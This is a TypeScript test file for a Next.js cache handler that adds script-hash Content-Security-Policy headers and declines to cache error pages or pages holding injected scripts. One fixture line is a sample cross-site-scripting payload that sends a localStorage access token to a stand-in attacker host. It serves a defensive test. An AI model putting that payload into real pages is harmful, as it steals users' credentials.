import { createHash } from 'node:crypto';
import FileSystemCache from 'next/dist/server/lib/incremental-cache/file-system-cache.js';
import CspCacheHandler, { keptInCache, withScriptHashes } from './csp-cache-handler.mjs';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
const flight = 'self.__next_f.push([1,"piece"])';

type Entry = { kind: string; html: string; headers: Record<string, string>; status?: number };
const appPage = (html: string, status = 200): Entry => ({ kind: 'APP_PAGE', html, headers: {}, status });

/** The handler's set() with Next's own file cache underneath recorded rather than written. */
async function store(entry: Entry) {
  const written = vi.spyOn(FileSystemCache.prototype, 'set').mockResolvedValue(undefined);
  const handler = Object.create((CspCacheHandler as { prototype: object }).prototype) as {
    set: (key: string, data: Entry, ctx: object) => Promise<void>;
  };
  await handler.set('/products/silk-hoops', entry, {});
  const kept = written.mock.calls.length > 0;
  written.mockRestore();
  return kept;
}

afterEach(() => vi.restoreAllMocks());

describe('the page cache handler (docs/security.md)', () => {
  it('a page going into the cache keeps the hash policy with its headers; other entries are untouched', () => {
    const entry = appPage(`<script>${flight}</script>`);
    entry.headers['x-next-cache-tags'] = 'catalog';
    withScriptHashes(entry, 'http://localhost:8000');
    expect(entry.headers['x-next-cache-tags']).toBe('catalog');
    expect(entry.headers['content-security-policy']).toContain(`script-src 'self' ${sha(flight)};`);
    const fetched = { kind: 'FETCH', data: {} };
    expect(withScriptHashes(fetched, '')).toEqual({ kind: 'FETCH', data: {} });
  });

  it("a page answered with an error status (a made-up product's notFound()) is not kept; pages and reads are", () => {
    expect(keptInCache(appPage('<p>gone</p>', 404))).toBe(false);
    expect(keptInCache(appPage('<p>oops</p>', 500))).toBe(false);
    expect(keptInCache(appPage('<p>piece</p>', 200))).toBe(true);
    expect(keptInCache({ kind: 'APP_PAGE', html: '<p>piece</p>', headers: {} })).toBe(true);
    expect(keptInCache({ kind: 'FETCH', data: { status: 404 } })).toBe(true);
    expect(keptInCache(null)).toBe(true);
  });

  it("a page of Next's scripts only is kept, under the policy of their hashes", async () => {
    const entry = appPage(`<script>${flight}</script>`);
    expect(await store(entry)).toBe(true);
    expect(entry.headers['content-security-policy']).toContain(sha(flight));
    expect(entry.headers['cache-control']).toBeUndefined();
  });

  it('a page holding a script Next did not emit is not kept, and is sent without its hash for no cache to keep', async () => {
    const error = vi.spyOn(console, 'error').mockImplementation(() => {});
    const injected = 'fetch("//evil.example/?t="+localStorage.access_token)';
    const entry = appPage(`<script>${flight}</script><p>review</p><script>${injected}</script>`);
    expect(await store(entry)).toBe(false);
    const policy = entry.headers['content-security-policy'];
    expect(policy).toContain(sha(flight));
    expect(policy).not.toContain(sha(injected));
    expect(entry.headers['cache-control']).toMatch(/^private, no-cache, no-store/);
    expect(error).toHaveBeenCalledWith(expect.stringContaining('/products/silk-hoops not kept'));
  });

  it('a 404 page is sent with a Cache-Control that no shared cache keeps (Next would send s-maxage)', async () => {
    const entry = appPage(`<script>${flight}</script><h1>This piece is no longer in the shop</h1>`, 404);
    expect(await store(entry)).toBe(false);
    expect(entry.headers['cache-control']).toMatch(/^private, no-cache, no-store/);
    expect(entry.headers['content-security-policy']).toContain(sha(flight));
  });
});
